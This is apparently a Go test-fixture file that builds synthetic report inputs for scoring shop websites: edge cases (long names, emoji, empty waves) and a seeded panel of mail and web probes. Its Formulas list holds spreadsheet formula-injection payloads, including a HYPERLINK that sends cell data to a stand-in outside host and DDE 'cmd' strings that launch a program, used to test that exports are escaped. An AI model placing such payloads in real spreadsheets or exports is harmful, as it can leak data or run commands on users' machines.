package reporttest

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"touchstone/internal/evidence"
	"touchstone/reports"
	"touchstone/scoring"
)

// Formulas are texts that a spreadsheet would run, were they written bare.
var Formulas = []string{
	`=HYPERLINK("http://elsewhere.example/?"&A1,"Tea")`, `+1+cmd|'/c calc'!A0`, `-2+3+cmd|'/c calc'!A0`, `@SUM(1+9)*cmd|'/c calc'!A0`,
	"\t=1+1", "\r=1+1", " =1+1", "tea;=1+1", "tea\n=1+1", "＝1+1",
}

// Emoji is a name of joined and coloured pictures.
const Emoji = "👩🏽‍🍳 Tea 🇬🇧 \u200bzero\u200b width"

// Cases gives the waves that every format must bear, by name.
func Cases() map[string]reports.Input {
	cases := map[string]reports.Input{"hostile": Input()}
	add := func(name string, change func(*reports.Input)) {
		in := Input()
		change(&in)
		cases[name] = in
	}
	add("formulas", func(in *reports.Input) {
		in.Title = Formulas[0]
		for i := range in.Sites {
			in.Sites[i].Name, in.Sites[i].Cohort = Formulas[i], Formulas[3+i]
		}
		for i := range in.Observations {
			in.Observations[i].Reason = Formulas[i]
			for j := range in.Observations[i].Facts {
				if f := &in.Observations[i].Facts[j]; f.Unit == evidence.Text && f.Name != "mail.bucket" {
					f.Text = Formulas[j%len(Formulas)]
				}
			}
		}
		in.Replies = []reports.SiteReply{{Site: "hostile", Sent: Start, Answer: Formulas[1]}}
	})
	add("long", func(in *reports.Input) {
		for i := range in.Sites {
			in.Sites[i].Name = fmt.Sprint(i) + strings.Repeat("unbreakable", 1000)
		}
		in.Observations[0].Reason = strings.Repeat("x", 10_000)
	})
	add("emoji", func(in *reports.Input) { in.Sites[0].Name, in.Title = Emoji, Emoji })
	add("one site", func(in *reports.Input) {
		in.Sites, in.Result.Sites = in.Sites[:1], in.Result.Sites[:1]
		in.Observations = slices.DeleteFunc(in.Observations, func(o evidence.Observation) bool { return o.Probe.Site != in.Sites[0].ID })
	})
	add("no reply", func(in *reports.Input) {
		for i := range in.Observations {
			o := &in.Observations[i]
			o.Outcome, o.Facts, o.Evidence = evidence.Silent, nil, nil
		}
		for i := range in.Result.Sites {
			in.Result.Sites[i] = scoring.SiteScore{Site: in.Sites[i].ID, State: scoring.Scored, Grade: "Poor"}
		}
	})
	add("no sites", func(in *reports.Input) {
		in.Sites, in.Observations, in.Result.Sites, in.Scenarios = nil, nil, nil, nil
	})
	return cases
}

// Panel gives a wave of n sites that were judged by every criterion of a probe
// by mail or web: three letters and two visits at each, no pictures. The same
// n gives the same wave.
func Panel(n int) reports.Input {
	const day = 24 * time.Hour
	in := reports.Input{
		Title:     fmt.Sprintf("A panel of %d shops", n),
		Wave:      reports.Wave{ID: "panel", Seed: 11, Plan: string(digest("plan")), Version: "0.1.0", Window: 5 * day, Planned: Start.Add(-time.Hour), Started: Start, Ended: Start.Add(6 * day)},
		Criteria:  scoring.Criteria(),
		Generated: Start.Add(30 * day),
		Scenarios: []reports.Scenario{
			{ID: "question", Title: "A question about a product", Kind: "mail", Task: "enquiry", Window: 5 * day, Repeat: 3, Wordings: 3},
			{ID: "buy", Title: "Buy, up to the payment page", Kind: "web", Task: "checkout", Repeat: 1},
			{ID: "help", Title: "Find help", Kind: "web", Task: "find-help", Repeat: 1},
		},
	}
	card := scoring.Scorecard{
		ID: "panel", Title: "Every criterion",
		Grades: []scoring.Grade{{Label: "Excellent", Min: 85}, {Label: "Good", Min: 65}, {Label: "Average", Min: 45}, {Label: "Below average", Min: 20}, {Label: "Poor", Min: 0}},
	}
	for _, k := range in.Criteria {
		if k.Kind != "mail" && k.Kind != "web" {
			continue
		}
		id := k.Kind + " " + k.Task
		i := slices.IndexFunc(card.Categories, func(c scoring.Category) bool { return c.ID == id })
		if i < 0 {
			i = len(card.Categories)
			card.Categories = append(card.Categories, scoring.Category{ID: id, Title: "By " + id, Weight: 1, Because: "One of a few."})
		}
		card.Categories[i].Criteria = append(card.Categories[i].Criteria, scoring.Weighted{ID: k.ID, Weight: 1, Because: "One of many."})
	}
	dice := rand.New(rand.NewPCG(11, uint64(n)))
	var ids []string
	for i := range n {
		s := reports.Site{
			ID: fmt.Sprintf("shop-%04d", i+1), Name: fmt.Sprintf("%s %s %d", first[dice.IntN(len(first))], second[dice.IntN(len(second))], i+1),
			Cohort: []string{"own", "competitor", "sector"}[i%3], Authorisation: "public-enquiry", Language: "en",
		}
		s.URL, s.Email = "https://"+s.ID+".example/", "hello@"+s.ID+".example"
		in.Sites = append(in.Sites, s)
		ids = append(ids, s.ID)
		in.Observations = append(in.Observations, panelProbes(s.ID, dice)...)
	}
	var err error
	if in.Result, err = scoring.Score(in.Wave.ID, card, in.Criteria, ids, in.Observations); err != nil {
		panic(err) // the card is made of the catalogue
	}
	return in
}

var (
	first  = []string{"Kettle", "Leaf", "Copper", "Harbour", "Old Mill", "Garden", "Silver", "Morning"}
	second = []string{"& Sons", "Teas", "Outfitters", "Books", "Kitchen", "Toys", "Cycles", "Shoes"}
)

func panelProbes(site string, dice *rand.Rand) []evidence.Observation {
	var out []evidence.Observation
	quality := dice.Float64()
	number := func(name string, unit evidence.Unit, v float64) evidence.Fact {
		return evidence.Fact{Name: name, Unit: unit, Number: v}
	}
	flag := func(name string, chance float64) evidence.Fact {
		if dice.Float64() < chance {
			return number(name, evidence.Bool, 1)
		}
		return number(name, evidence.Bool, 0)
	}
	for repeat := 1; repeat <= 3; repeat++ {
		after := 3600 * (1 + dice.ExpFloat64()*40*(1.1-quality))
		outcome, bucket := evidence.Completed, "≤6 h"
		switch {
		case dice.Float64() > 0.4+quality/2:
			outcome, bucket, after = evidence.Silent, "never", 0
		case after > 86400:
			bucket = "1–2 d"
		case after > 6*3600:
			bucket = "6–24 h"
		}
		o := mail(evidence.ProbeID{Wave: "panel", Site: site, Scenario: "question", Repeat: repeat}, outcome, bucket, after)
		o.Evidence = map[string]evidence.Ref{"letter.eml": digest(site + "letter")}
		if after > 0 {
			o.Facts = append(o.Facts, arrival("reply-1", "human", "no sign of a machine", after, "Customer care <hello@"+site+".example>", "Re: Is the stoneware pot dishwasher safe?",
				"Hello Nora,\n\nyes, it may go into the dishwasher.\n\nKind regards,\nCustomer care")...)
			o.Evidence["reply-1.eml"] = digest(site + "reply")
		} else {
			o.Reason = "never answered"
		}
		out = append(out, o)
	}
	for _, scenario := range []struct{ id, task string }{{"buy", "checkout"}, {"help", "find-help"}} {
		o := evidence.Observation{
			Probe: evidence.ProbeID{Wave: "panel", Site: site, Scenario: scenario.id, Repeat: 1}, Kind: "web", Task: scenario.task, Reading: "web/1",
			Start: Start.Add(2 * time.Hour), Took: 20 * time.Second, Outcome: evidence.Completed,
		}
		o.Facts = append(o.Facts,
			flag("web.reached", 0.6+quality/2.5), number("web.clicks", evidence.Count, float64(4+dice.IntN(16))),
			number("web.fields-visible", evidence.Count, float64(6+dice.IntN(20))), number("web.checkout-steps", evidence.Count, float64(2+dice.IntN(6))),
			flag("web.account-forced", 0.3), flag("web.guest-offered", 0.7), flag("web.cost-before-data", quality), flag("web.stock-shown", quality), flag("web.delivery-date", quality),
			flag("web.help-in-checkout", quality), flag("web.email-published", 0.8), flag("web.faq", 0.6), flag("web.help-search", 0.4),
			number("web.phone-prominence", evidence.Count, float64(dice.IntN(4))), number("web.form-distance", evidence.Count, float64(1+dice.IntN(4))),
			number("web.klm-time", evidence.Second, 20+60*dice.Float64()))
		for i, words := range []string{"open the start page", `click the link "Help"`, `click the button "Contact"`} {
			o.Facts = append(o.Facts, evidence.Fact{Name: "web.step", Step: fmt.Sprintf("step %d", i+1), Unit: evidence.Text, Text: words})
		}
		out = append(out, o)
	}
	return out
}
